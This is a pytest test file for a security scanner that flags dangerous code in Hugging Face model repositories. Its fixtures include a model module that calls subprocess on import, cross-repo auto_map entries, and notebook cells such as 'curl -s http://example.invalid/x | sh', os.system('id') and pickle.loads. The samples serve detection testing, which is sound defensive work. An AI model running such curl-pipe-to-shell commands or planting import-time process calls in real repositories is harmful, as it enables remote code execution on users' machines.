"""Hugging Face repo files: auto_map configs, Python modules and notebooks."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import modelxray
from modelxray.analysis.python_ast import analyse_source
from modelxray.model import Severity

MARKER = "/tmp/modelxray_marker_repo"

MODELING_EVIL = f"""\
import subprocess as sp
from os import system

import torch.nn as nn

sp.run(["sh", "-c", "touch {MARKER}"])


class EvilModel(nn.Module):
    def forward(self, x):
        system("echo MODELXRAY_MARKER")
        return x
"""

MODELING_CLEAN = """\
import math
import os

import torch
from torch import nn


class CleanModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.path = os.path.join("a", "b")
        self.linear = nn.Linear(4, 4)

    def forward(self, x):
        return torch.tanh(self.linear(x)) * math.sqrt(2.0)
"""


def _by_rule(report: modelxray.Report) -> dict[str, list]:
    out: dict[str, list] = {}
    for f in report.findings:
        out.setdefault(f.rule_id, []).append(f)
    return out


def _at_least_low(report: modelxray.Report) -> list:
    return [f for f in report.findings if f.severity >= Severity.LOW]


@pytest.fixture()
def evil_repo(tmp_path: Path) -> Path:
    (tmp_path / "config.json").write_text(
        json.dumps(
            {
                "model_type": "evil",
                "architectures": ["EvilModel"],
                "auto_map": {
                    "AutoConfig": "configuration_evil.EvilConfig",
                    "AutoModel": "modeling_evil.EvilModel",
                    "AutoTokenizer": ["other-org/some-repo--tokenization_x.XTokenizer", None],
                },
            }
        )
    )
    (tmp_path / "modeling_evil.py").write_text(MODELING_EVIL)
    (tmp_path / "README.md").write_text("# Evil\n\n```python\nimport torch\nx = (\n```\n")
    return tmp_path


def test_auto_map_local_and_cross_repo(evil_repo: Path, assert_no_marker: None) -> None:
    rules = _by_rule(modelxray.scan(str(evil_repo / "config.json")))
    local = rules["MX-REPO-101"]
    assert {f.evidence["module"] for f in local} == {"configuration_evil", "modeling_evil"}
    present = {f.evidence["module"]: f.evidence["module_file_present"] for f in local}
    assert present == {"configuration_evil": False, "modeling_evil": True}
    (remote,) = rules["MX-REPO-102"]
    assert remote.severity == Severity.HIGH
    assert remote.evidence["repository"] == "other-org/some-repo"
    assert remote.evidence["module"] == "tokenization_x"
    assert remote.location.inner == ("$.auto_map.AutoTokenizer[0]",)


def test_python_module_calls_with_lines_and_scope(evil_repo: Path, assert_no_marker: None) -> None:
    report = modelxray.scan(str(evil_repo / "modeling_evil.py"))
    (result,) = report.files
    assert result.formats == ["python"]
    hits = {(f.evidence["call"], f.evidence["line"], f.evidence["scope"]) for f in report.findings}
    assert hits == {("subprocess.run", 6, "module"), ("os.system", 11, "function forward")}
    assert all(f.rule_id == "MX-REPO-103" and f.severity == Severity.HIGH for f in report.findings)
    on_import = [f for f in report.findings if f.evidence["runs_on_import"]]
    assert on_import[0].location.inner == ("line:6",)


def test_readme_stays_unsupported(evil_repo: Path) -> None:
    (result,) = modelxray.scan(str(evil_repo / "README.md")).files
    assert result.status == "unsupported"
    assert result.findings == []


def test_clean_repo_has_no_findings(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text(
        json.dumps({"model_type": "bert", "architectures": ["BertModel"], "hidden_size": 8})
    )
    (tmp_path / "modeling_clean.py").write_text(MODELING_CLEAN)
    report = modelxray.scan(str(tmp_path))
    assert _at_least_low(report) == []
    formats = {Path(r.path).name: r.formats for r in report.files}
    assert formats["modeling_clean.py"] == ["python"]
    assert "hf-config" in formats["config.json"]


def test_ast_resolution_forms() -> None:
    src = (
        "import os, importlib\n"
        "import urllib.request as ur\n"
        "getattr(os, 'system')('id')\n"
        "ur.urlopen('http://example.invalid')\n"
        "importlib.import_module('x')\n"
        "eval('1+1')\n"
        "model.eval()\n"
        "re.compile('x')\n"
        "__import__('os').popen('id')\n"
    )
    names = [(h.name, h.category) for h in analyse_source(src)]
    assert names == [
        ("os.system", "process"),
        ("urllib.request.urlopen", "network"),
        ("importlib.import_module", "import"),
        ("eval", "eval"),
        ("__import__", "import"),
    ]


def _notebook(cells: list[str]) -> dict:
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {},
        "cells": [
            {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
             "source": src.splitlines(keepends=True)}
            for src in cells
        ]
        + [{"cell_type": "markdown", "metadata": {}, "source": ["!curl x | sh"]}],
    }  # fmt: skip


def test_notebook_shell_escapes_and_calls(tmp_path: Path, assert_no_marker: None) -> None:
    nb = tmp_path / "demo.ipynb"
    nb.write_text(
        json.dumps(
            _notebook(
                [
                    "!curl -s http://example.invalid/x | sh\n",
                    "%%bash\necho MODELXRAY_MARKER > /tmp/modelxray_marker_nb\n",
                    "%pip install transformers==4.40 torch\nimport os\nos.system('id')\n",
                    "%matplotlib inline\nfiles = !ls\nx = 1\nx?\n",
                    "%%capture\nimport pickle\npickle.loads(b'')\n",
                ]
            )
        )
    )
    report = modelxray.scan(str(nb))
    (result,) = report.files
    assert "jupyter-notebook" in result.formats
    shell = {(f.location.inner, f.severity) for f in report.findings if f.rule_id == "MX-REPO-104"}
    assert shell == {
        (("cell:0", "line:1"), Severity.HIGH),
        (("cell:1", "line:2"), Severity.MEDIUM),
        (("cell:2", "line:1"), Severity.INFO),
        (("cell:3", "line:2"), Severity.MEDIUM),
    }
    calls = {
        (f.location.inner, f.evidence["call"])
        for f in report.findings
        if f.rule_id == "MX-REPO-103"
    }
    assert calls == {(("cell:2", "line:3"), "os.system"), (("cell:4", "line:3"), "pickle.loads")}
    assert "MX-REPO-105" not in _by_rule(report)


def test_notebook_fails_closed_on_unparseable_cell(tmp_path: Path) -> None:
    nb = tmp_path / "odd.ipynb"
    nb.write_text(json.dumps(_notebook(["%%weird_magic\nwhatever it means\n", "def f(:\n"])))
    rules = _by_rule(modelxray.scan(str(nb)))
    assert {f.location.inner[0] for f in rules["MX-REPO-105"]} == {"cell:0", "cell:1"}


def test_clean_notebook(tmp_path: Path) -> None:
    nb = tmp_path / "clean.ipynb"
    nb.write_text(json.dumps(_notebook(["import numpy as np\nx = np.ones(3)\nprint(x.sum())\n"])))
    report = modelxray.scan(str(nb))
    assert report.findings == []
    assert report.files[0].formats == ["json", "jupyter-notebook"]
